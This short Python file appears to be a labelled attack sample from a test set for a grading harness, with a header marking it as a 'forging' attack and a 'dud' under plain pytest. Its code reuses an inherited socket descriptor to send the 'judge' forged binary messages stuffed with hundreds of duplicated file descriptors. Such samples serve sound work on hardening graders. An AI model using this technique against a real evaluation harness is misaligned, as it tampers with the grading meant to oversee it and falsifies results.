# attack: sends open descriptors to the judge with its replies | class: forging | canary: bytes | dud: plain pytest has no wire
import os
import socket
import struct

channel = socket.socket(fileno=os.dup(3))
for _ in range(30):
    socket.send_fds(channel, [struct.pack("<IQI16x", 1, 0, 0)], [0] * 200)
